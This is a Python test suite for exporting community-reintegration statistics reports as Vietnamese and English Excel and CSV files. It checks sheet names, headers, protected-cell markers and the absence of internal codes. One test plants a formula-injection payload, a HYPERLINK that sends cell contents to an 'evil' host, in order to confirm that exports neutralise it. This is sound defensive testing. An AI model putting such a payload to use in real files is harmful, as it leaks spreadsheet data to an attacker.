"""The report file a province office hands in: XLSX and CSV, one language each, no internal code.

The files are opened as an office would open them (openpyxl) and read cell by cell: sheet names,
title rows, headers, bold, frozen panes, column widths, numbers, the marker, the notes.
"""

from __future__ import annotations

import copy
import csv
import io
import re
from datetime import UTC, datetime
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from casework.extensions import db
from casework.stats import export, labels, protection
from casework.stats.periods import parse
from casework.stats.presentation import present
from casework.stats.reports import published_report
from casework.units.models import CURRENT_TREE, Unit

NOW = datetime(2026, 6, 30, 8, tzinfo=UTC)  # 15:00 in Vietnam
SNAKE_CASE = re.compile(r"\b[a-z]+(?:_[a-z0-9]+)+\b")
VIETNAMESE_LETTERS = re.compile(
    "[àáảãạăằắẳẵặâầấẩẫậèéẻẽẹêềếểễệìíỉĩịòóỏõọôồốổỗộơờớởỡợùúủũụưừứửữựỳýỷỹỵđ]", re.I)
EXCEL_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")


def published(app: Any, code: str, period: str, **kw: Any) -> dict[str, Any]:
    with app.app_context():
        unit = db.session.scalar(select(Unit).where(Unit.tree == CURRENT_TREE, Unit.code == code))
        report = published_report(db.session, unit, parse(period), now=NOW, **kw)
        db.session.remove()
    return report


@pytest.fixture()
def year_report(stats_world) -> dict[str, Any]:  # noqa: ANN001
    return published(stats_world.world.app, "01", "2025")


def book_of(report: dict[str, Any], lang: str = "vi") -> Any:
    return load_workbook(io.BytesIO(export.report_xlsx(report, lang)))


def cell_texts(book: Any) -> list[tuple[str, str]]:
    return [(sheet.title, str(cell.value)) for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.value not in (None, "")]


def internal_keys(report: dict[str, Any]) -> set[str]:
    """The codes a report body is keyed by: none may reach a reader of the Vietnamese file."""
    keys = {"casework", "workflows", "suppression", "indicators"}
    for section in report["sections"]:
        keys.add(section["id"])
        keys.update(c["key"] for c in section["columns"] if re.search("[a-z]", c["key"]))
        for table in section["tables"]:
            keys.add(table["id"])
            if table["id"] == "by_stage":
                keys.update(r["key"] for r in table["rows"])
    return keys


def rows_of(sheet: Any) -> list[list[Any]]:
    return [[c.value for c in row] for row in sheet.iter_rows()]


def header_row(sheet: Any, first: str) -> int:
    return next(i for i, row in enumerate(sheet.iter_rows(), start=1)
                if row[0].value == first or (len(row) > 1 and row[1].value == first))


# --- the Vietnamese workbook -------------------------------------------------------------------


def test_sheets_are_named_in_vietnamese_within_excel_rules(year_report):
    book = book_of(year_report)
    names = book.sheetnames
    assert names[:3] == ["Thông tin chung", "Tổng hợp", "Hồ sơ mới"]
    assert names[-1] == "Ghi chú"
    assert len(names) == len(year_report["sections"]) + 3
    assert len({n.casefold() for n in names}) == len(names)
    for name in names:
        assert 0 < len(name) <= 31 and not EXCEL_FORBIDDEN.search(name), name
    assert {"Kết thúc - không đủ điều kiện", "Số tiền được vay", "Duy trì việc làm 3 tháng",
            "Được kết nối dịch vụ", "Thời gian theo giai đoạn"} <= set(names)


def test_no_internal_code_appears_anywhere_in_the_vietnamese_workbook(year_report):
    keys = internal_keys(year_report)
    assert {"post_rehab", "new_cases", "by_unit", "vocational_training", "female"} <= keys
    for sheet, text in cell_texts(book_of(year_report)):
        words = set(re.findall(r"[\w<>+-]+", text))
        assert not words & keys, (sheet, text, words & keys)
        assert not SNAKE_CASE.search(text), (sheet, text)
        for english in ("Total", "Unit", "Period", "Note", "Marker", "cases", "suppressed"):
            assert english not in words, (sheet, text)


def test_each_indicator_sheet_has_titles_bold_headers_frozen_panes_and_fitted_columns(
        year_report):
    book = book_of(year_report)
    sheet = book["Hồ sơ mới"]
    first = [row[0] for row in rows_of(sheet)[:8]]
    assert first[0] == "Báo cáo thống kê hỗ trợ tái hòa nhập cộng đồng"
    assert first[1] == "Hồ sơ mới tiếp nhận (đơn vị tính: hồ sơ)"
    assert "Đơn vị: Thành phố Hà Nội (mã đơn vị 01)" in first
    assert "Kỳ báo cáo: Năm 2025 (từ 01/01/2025 đến 31/12/2025)" in first
    assert "Ngày lập: 30/06/2026 15:00" in first
    assert f"Bảo vệ số liệu: {protection.NOTE_VI}" in first
    assert "Ký hiệu “x”: số liệu được bảo vệ, không công bố." in first
    assert sheet["A1"].font.b and sheet["A1"].font.sz == 14

    head = header_row(sheet, "Đơn vị")
    assert [c.value for c in sheet[head]] == [
        "Mã đơn vị", "Đơn vị", "Nạn nhân bị mua bán", "Người sau cai nghiện ma túy",
        "Người bán dâm hoàn lương", "Người chấp hành xong án phạt tù", "Tổng cộng"]
    assert all(c.font.b for c in sheet[head])
    assert sheet.freeze_panes == f"C{head + 1}"
    widths = {k: v.width for k, v in sheet.column_dimensions.items()}
    assert widths["B"] >= len("Phường Ngọc Hà") and widths["B"] <= export.LABEL_WIDTH
    assert all(8 <= widths[col] <= export.NUMBER_WIDTH for col in "CDEFG")
    assert sheet.row_dimensions[head].height >= 2 * export.ROW_HEIGHT  # long headers wrap

    # Every indicator sheet: panes frozen right under a bold header row.
    for name in book.sheetnames[2:-1]:
        s = book[name]
        assert s.freeze_panes, name
        row = int(re.sub(r"\D", "", s.freeze_panes)) - 1
        assert all(c.font.b for c in s[row] if c.value is not None), name
        assert s.column_dimensions["A"].width, name


def test_figures_are_numbers_and_protected_cells_carry_the_marker(year_report):
    sheet = book_of(year_report)["Hồ sơ mới"]
    head = header_row(sheet, "Đơn vị")
    section = next(s for s in year_report["sections"] if s["id"] == "new_cases")
    table = section["tables"][0]
    for offset, cells in enumerate(table["cells"], start=1):
        line = sheet[head + offset]
        for cell, published_cell in zip(line[2:], cells, strict=True):
            if published_cell.get("hidden"):
                assert cell.value == "x"
            else:
                assert cell.value == published_cell["value"] and isinstance(cell.value, int)
                assert cell.number_format == "#,##0"
    # Counts are perturbed, never hidden: none is published as 1..k-1.
    assert not any(c.get("hidden") for line in table["cells"] for c in line)
    assert not any(1 <= c["value"] < 5 for line in table["cells"] for c in line)


def test_the_summary_gives_every_indicator_its_total(year_report):
    sheet = book_of(year_report)["Tổng hợp"]
    titles = [row[1] for row in rows_of(sheet) if isinstance(row[0], int)]
    assert len(titles) == len(year_report["sections"])
    assert titles[0] == "Hồ sơ mới tiếp nhận"
    assert sheet.freeze_panes == f"C{header_row(sheet, 'Chỉ tiêu') + 1}"


def test_the_notes_say_what_each_indicator_counts_and_how_figures_are_protected(year_report):
    sheet = book_of(year_report)["Ghi chú"]
    rows = rows_of(sheet)
    head = header_row(sheet, "Chỉ tiêu")
    assert rows[head - 1][:3] == ["Chỉ tiêu", "Đơn vị tính", "Ý nghĩa"]
    described = {row[0]: row[2] for row in rows[head:] if row[0]}
    assert len(described) == len(year_report["sections"])
    assert all(described.values())
    assert described["Hồ sơ mới tiếp nhận"].startswith("Số hồ sơ được mở trong kỳ")
    column_a = [row[0] for row in rows]
    assert protection.NOTE_VI in column_a
    assert "Ký hiệu “x”: số liệu được bảo vệ, không công bố." in column_a


# --- the English workbook ----------------------------------------------------------------------


def test_the_english_workbook_is_in_english_only(year_report):
    book = book_of(year_report, "en")
    assert book.sheetnames[:3] == ["About", "Summary", "New cases"]
    assert book.sheetnames[-1] == "Notes"
    unit_names = sorted({year_report["unit"]["name"]} | {
        r["label"] for s in year_report["sections"] for t in s["tables"] if t["id"] == "by_unit"
        for r in t["rows"] if r["key"] not in ("total",) and not r["key"].endswith("*")},
        key=len, reverse=True)
    for sheet, text in cell_texts(book):
        for name in unit_names:  # official names are proper nouns, kept as they are
            text = text.replace(name, "")
        assert not VIETNAMESE_LETTERS.search(text), (sheet, text)
    sheet = book["New cases"]
    head = header_row(sheet, "Unit")
    assert [c.value for c in sheet[head]] == [
        "Unit code", "Unit", "Trafficking victim", "After drug rehab", "Leaving sex work",
        "Released from prison", "Total"]
    assert "Reporting period: Year 2025 (1 Jan 2025 – 31 Dec 2025)" in [
        row[0] for row in rows_of(sheet)[:8]]


# --- the protection note and the shape of a report ------------------------------------------------


def test_the_protection_note_is_read_from_the_report_when_it_gives_one(year_report):
    report = copy.deepcopy(year_report)
    report["protection"] = {"note_vi": "Số liệu được làm nhiễu nhỏ theo phương pháp khóa ô.",
                            "note_en": "Figures carry small cell-key noise."}
    assert ["Bảo vệ số liệu", "Số liệu được làm nhiễu nhỏ theo phương pháp khóa ô."] in rows_of(
        book_of(report)["Thông tin chung"])
    assert ["Protection of figures", "Figures carry small cell-key noise."] in rows_of(
        book_of(report, "en")["About"])
    report["protection"] = "Một câu tiếng Việt."  # Vietnamese only: the English file keeps its own
    assert labels.protection_note(report, "vi") == "Một câu tiếng Việt."
    assert labels.protection_note(report, "en") == labels.DEFAULT_PROTECTION_NOTE.en
    assert labels.protection_note({}, "vi") == labels.DEFAULT_PROTECTION_NOTE.vi


def perturbed_report() -> dict[str, Any]:
    """A report as cell-key perturbation may publish it: values everywhere, a few cells flagged
    ``protected`` (with a value the file must not show), no suppression bookkeeping, and a
    section no label table knows yet."""
    columns = [{"key": "post_rehab", "label_vi": "x", "label_en": "x"},
               {"key": "total", "label_vi": "Tổng", "label_en": "Total"}]
    return {
        "unit": {"code": "01", "name": "Thành phố Hà Nội"},
        "period": {"label": "2026-H1", "kind": "half", "start": "2026-01-01",
                   "end": "2026-06-30", "subperiods": []},
        "case_type": "post_rehab",
        "generated_at": "2026-07-01T01:00:00+00:00",
        "protection": {"note_vi": "Câu bảo vệ.", "note_en": "Protection sentence."},
        "sections": [
            {"id": "new_cases", "title_vi": "Hồ sơ mới tiếp nhận", "title_en": "New cases",
             "unit_of_count": "cases", "columns": columns, "notes": [],
             "tables": [{"id": "by_unit",
                         "rows": [{"key": "00004", "label": "Phường Ba Đình"},
                                  {"key": "01*", "label": "ignored"},
                                  {"key": "total", "label": "Tổng / Total"}],
                         "cells": [[{"value": 12}, {"value": 14}],
                                   [{"value": 3, "protected": True}, {"value": 2}],
                                   [{"value": 15}, {"value": 16}]]}]},
            {"id": "future_measure", "title_vi": "Chỉ tiêu mới: thử/nghiệm",
             "title_en": "A new measure", "unit_of_count": "people", "columns": columns,
             "notes": ["An English note only."],
             "tables": [{"id": "by_unit", "rows": [{"key": "total", "label": "Tổng"}],
                         "cells": [[{"value": 0}, {"value": 0}]]}]},
        ],
    }


def test_a_perturbed_report_is_shown_as_published():
    report = perturbed_report()
    view = present(report, "vi")
    new = view.indicator("new_cases")
    assert [r.label for r in new.grids[0].rows] == [
        "Phường Ba Đình", "Thành phố Hà Nội (trực tiếp)", "Tổng cộng"]
    assert new.grids[0].rows[1].figures[0].protected  # flagged: the marker, not its value
    assert new.grids[0].rows[0].figures[0].value == 12
    assert new.headers == ["Người sau cai nghiện ma túy", "Tổng cộng"]
    assert view.case_type == "Người sau cai nghiện ma túy"
    book = book_of(report)
    assert book.sheetnames == ["Thông tin chung", "Tổng hợp", "Hồ sơ mới",
                               "Chỉ tiêu mới - thử - nghiệm", "Ghi chú"]
    texts = [t for _s, t in cell_texts(book)]
    assert "Câu bảo vệ." in texts and "An English note only." not in " ".join(texts)
    sheet = book["Hồ sơ mới"]
    head = header_row(sheet, "Đơn vị")
    assert [c.value for c in sheet[head + 2]] == ["01", "Thành phố Hà Nội (trực tiếp)", "x", 2]
    assert "An English note only." in " ".join(t for _s, t in cell_texts(book_of(report, "en")))


def test_sheet_names_follow_excel_rules_whatever_the_title():
    assert labels.safe_sheet_name("Kết thúc: không đủ điều kiện / không phải nạn nhân") == \
        "Kết thúc - không đủ điều kiện"
    assert labels.safe_sheet_name("Quý I/2025 [bản: nháp]") == "Quý I - 2025 - bản - nháp"
    assert labels.safe_sheet_name("[]:*?/\\") == "-"
    assert labels.safe_sheet_name("   ") == "-"
    used: set[str] = set()
    assert [export._unique("Hồ sơ mới", used) for _ in range(3)] == [
        "Hồ sơ mới", "Hồ sơ mới (2)", "Hồ sơ mới (3)"]


# --- CSV and safety ------------------------------------------------------------------------------


def test_the_vietnamese_csv_has_vietnamese_headers_and_no_internal_code(year_report):
    text = export.report_csv(year_report, "vi").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["Báo cáo thống kê hỗ trợ tái hòa nhập cộng đồng"]
    assert ["Kỳ báo cáo", "Năm 2025 (từ 01/01/2025 đến 31/12/2025)"] in rows
    assert ["Mã đơn vị", "Đơn vị", "Nạn nhân bị mua bán", "Người sau cai nghiện ma túy",
            "Người bán dâm hoàn lương", "Người chấp hành xong án phạt tù", "Tổng cộng"] in rows
    keys = internal_keys(year_report)
    for row in rows:
        for value in row:
            assert not set(re.findall(r"[\w<>+-]+", value)) & keys, value
            assert not SNAKE_CASE.search(value), value
    assert "x" in {v for row in rows for v in row}
    english = export.report_csv(year_report, "en").decode("utf-8-sig")
    assert english.startswith('"Statistical report on community reintegration support"')
    assert "Nạn nhân" not in english


def test_files_never_carry_a_formula(stats_world):
    app = stats_world.world.app
    with app.app_context():
        unit = db.session.scalar(select(Unit).where(Unit.code == "00004"))
        unit.name = '=HYPERLINK("http://evil/?"&A1)'
        db.session.commit()
        db.session.remove()
    report = published(app, "01", "2025")
    for lang in labels.LANGUAGES:
        text = export.report_csv(report, lang).decode("utf-8-sig")
        assert "\"'=HYPERLINK" in text and "\"=HYPERLINK" not in text
        book = book_of(report, lang)
        found = [t for _s, t in cell_texts(book) if "HYPERLINK" in t]
        assert found and all(t.startswith("'=") for t in found)
        for sheet in book.worksheets:
            assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_file_names_say_the_language(year_report):
    assert export.file_name(year_report, "xlsx", "vi") == "bao-cao-thong-ke-01-2025.xlsx"
    assert export.file_name(year_report, "csv", "en") == "statistics-report-01-2025.csv"
    with pytest.raises(ValueError):
        export.report_xlsx(year_report, "fr")
